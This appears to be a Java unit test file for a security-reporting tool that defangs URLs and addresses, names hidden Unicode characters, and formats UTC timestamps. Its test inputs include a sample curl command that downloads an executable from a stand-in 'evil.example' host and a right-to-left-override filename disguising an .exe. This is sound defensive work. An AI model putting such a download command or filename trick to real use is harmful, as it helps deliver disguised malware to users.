package org.tocsin.report.words;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.tocsin.report.Hostile;

class WordsTest {
    @Test
    void links_and_mail_addresses_are_defanged_and_file_names_are_not() {
        assertThat(Defanged.text("curl -o a.exe https://cdn.evil.example:8443/x.php?u=http://b.example/"))
                .isEqualTo("curl -o a.exe hxxps://cdn[.]evil[.]example:8443/x.php?u=hxxp://b[.]example/");
        assertThat(Defanged.text("from amina@mail.example via www.evil.example"))
                .isEqualTo("from amina@mail[.]example via www[.]evil.example");
        assertThat(Defanged.text("x_http://b.example")).isEqualTo("x_hxxp://b[.]example");
        assertThat(Defanged.text("ftp://x.example")).isEqualTo("ftp[:]//x[.]example");
        assertThat(Defanged.text("C:\\Windows\\cmd.exe 10.0.19041.1")).isEqualTo("C:\\Windows\\cmd.exe 10.0.19041.1");
    }

    @Test
    void a_value_known_to_be_an_address_is_defanged_whole() {
        assertThat(Defanged.address("login.evil.example")).isEqualTo("login[.]evil[.]example");
        assertThat(Defanged.address("203.0.113.7")).isEqualTo("203[.]0[.]113[.]7");
        assertThat(Defanged.address("sha256 of a file.exe")).isEqualTo("sha256 of a file.exe");
    }

    @Test
    void hidden_characters_are_spelled_by_name() {
        assertThat(Hidden.spelled("photo" + Hostile.OVERRIDE + "gpj.exe\n")).isEqualTo("photo<U+202E>gpj.exe\\n");
        assertThat(Hidden.spelled("plain, naïve, 中文 😀 1\u202F000\u00A0km"))
                .isEqualTo("plain, naïve, 中文 😀 1\u202F000\u00A0km");
        assertThat(Hidden.name(0x1B)).isEqualTo("U+001B");
        assertThat(Hidden.name(0xE0041)).isEqualTo("U+E0041");
        assertThat(Hidden.name(0x10FFFF)).isEqualTo("U+10FFFF");
    }

    @Test
    void everything_that_unicode_calls_a_control_or_format_character_is_hidden() {
        for (int codePoint = 0; codePoint <= Character.MAX_CODE_POINT; codePoint++) {
            switch (Character.getType(codePoint)) {
                case Character.CONTROL, Character.LINE_SEPARATOR, Character.PARAGRAPH_SEPARATOR, Character.SURROGATE ->
                    assertThat(Hidden.is(codePoint)).as(Hidden.name(codePoint)).isTrue();
                case Character.FORMAT -> {
                    // signs that show: Arabic and Syriac number marks, Kaithi, Egyptian joiners
                    boolean shows = codePoint >= 0x600 && codePoint <= 0x605
                            || codePoint == 0x6DD
                            || codePoint == 0x70F
                            || codePoint == 0x890
                            || codePoint == 0x891
                            || codePoint == 0x8E2
                            || codePoint == 0x110BD
                            || codePoint == 0x110CD
                            || codePoint >= 0x13430 && codePoint <= 0x1343F;
                    assertThat(Hidden.is(codePoint)).as(Hidden.name(codePoint)).isEqualTo(!shows);
                }
                default -> {}
            }
        }
    }

    @Test
    void times_are_utc_with_all_their_digits() {
        assertThat(Times.iso(Instant.parse("2021-07-14T09:12:03.12345678Z"))).isEqualTo("2021-07-14T09:12:03.1234567Z");
        assertThat(Times.iso(Instant.parse("0001-01-01T00:00:00Z"))).isEqualTo("0001-01-01T00:00:00.0000000Z");
        assertThat(Times.iso(Instant.parse("-0005-01-01T00:00:00Z"))).isEqualTo("-0005-01-01T00:00:00.0000000Z");
        assertThat(Times.second(Instant.parse("1601-01-01T00:00:00Z"))).isEqualTo("1601-01-01 00:00:00");
    }
}
